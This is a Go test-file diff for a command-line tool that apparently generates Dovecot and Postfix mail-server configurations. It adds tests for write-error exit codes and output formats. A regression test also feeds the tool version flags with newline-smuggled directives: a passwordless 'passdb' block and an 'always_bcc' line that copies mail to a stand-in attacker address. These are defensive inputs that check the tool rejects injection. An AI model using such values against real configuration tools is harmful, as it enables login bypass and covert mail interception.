@@ -15,6 +15,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"syscall"
 	"testing"
 
 	"github.com/rogpeppe/go-internal/testscript"
@@ -220,4 +221,67 @@ func cmdSameTree(ts *testscript.TestScript, neg bool, args []string) {
 		}
 	}
 	fmt.Fprintf(ts.Stdout(), "%d files alike\n", len(a))
+}
+
+// fullWriter fails every write, as stdout does on a full disk (/dev/full)
+// or a closed pipe.
+type fullWriter struct{}
+
+func (fullWriter) Write([]byte) (int, error) { return 0, syscall.ENOSPC }
+
+// A command whose output cannot be written exits 1 and says so, never 0,
+// and never blames its input (exit 2).
+func TestOutputWriteErrorsExitOne(t *testing.T) {
+	dir := t.TempDir()
+	batchIn := filepath.Join(dir, "in.csv")
+	if err := os.WriteFile(batchIn, []byte("users\n10\n20\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("HOME", dir)
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	for _, args := range [][]string{
+		{"advise"}, {"advise", "-o", "json"}, {"advise", "-o", "markdown"}, {"cost"}, {"carbon"}, {"rules"}, {"presets"},
+		{"version"}, {"version", "-o", "json"}, {"profile", "sheet", "--email", "a@example.com"},
+		{"profile", "autoconfig", "--email", "a@example.com"}, {"server", "dns", "--domain", "example.com"},
+		{"advise", "--batch", batchIn}, {"advise", "--batch", batchIn, "-o", "csv"}, {"cost", "--print-defaults"},
+	} {
+		var stderr strings.Builder
+		code := run(args, streams{in: strings.NewReader(""), out: fullWriter{}, err: &stderr})
+		if code != exitFailure || !strings.Contains(stderr.String(), "no space left on device") {
+			t.Errorf("%v: exit %d, stderr %q; want 1 and the write error", args, code, stderr.String())
+		}
+	}
+}
+
+// Every command prints in every output format it lists, without a panic.
+func TestEveryOutputFormat(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	for _, cmd := range [][]string{{"advise"}, {"cost"}, {"carbon"}, {"rules"}, {"presets"}, {"version"},
+		{"profile", "sheet", "--email", "a@example.com"}} {
+		for _, format := range outputFormats {
+			var stdout, stderr strings.Builder
+			args := append(append([]string{}, cmd...), "-o", format)
+			if code := run(args, streams{in: strings.NewReader(""), out: &stdout, err: &stderr}); code != 0 || stdout.Len() == 0 {
+				t.Errorf("%v: exit %d, %d bytes out, stderr %q", args, code, stdout.Len(), stderr.String())
+			}
+		}
+	}
+}
+
+// A version flag cannot carry a directive into a file: these passed
+// doveconf -n and postconf before versions were checked whole.
+func TestVersionsCannotInject(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	for _, args := range [][]string{
+		{"server", "all", "--domain", "example.com", "--dovecot-version", "2.3.0\npassdb {\n  driver = static\n  args = nopassword=y\n}\n#"},
+		{"server", "postfix", "--domain", "example.com", "--openssl-version", "3.0.0\nalways_bcc = spy@evil.example\n#"},
+		{"server", "postfix", "--domain", "example.com", "--postfix-version", "3.7\nalways_bcc = spy@evil.example"},
+		{"server", "postfix", "--domain", "example.com", "--postfix-version", "3.7 "},
+	} {
+		var stdout, stderr strings.Builder
+		code := run(args, streams{in: strings.NewReader(""), out: &stdout, err: &stderr})
+		if code != exitUsage || stdout.Len() != 0 || !strings.Contains(stderr.String(), "want a version of digits and dots") {
+			t.Errorf("%q: exit %d, stdout %d bytes, stderr %q", args, code, stdout.Len(), stderr.String())
+		}
+	}
 }
